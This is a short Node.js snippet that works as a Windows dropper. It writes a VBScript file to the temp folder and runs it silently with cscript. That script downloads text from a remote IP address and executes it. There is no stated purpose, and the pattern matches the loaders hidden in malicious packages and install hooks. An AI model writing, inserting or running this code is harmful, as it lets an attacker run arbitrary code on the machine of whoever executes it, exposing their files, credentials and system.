const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
const p = path.join(os.tmpdir(), 'a.vbs');
fs.writeFileSync(p, 'Set x=CreateObject("MSXML2.XMLHTTP"):x.Open "GET","http://198.51.100.9/p.txt",False:x.Send:Execute x.responseText');
if (process.platform === 'win32') cp.exec('cscript //nologo //b "' + p + '"');
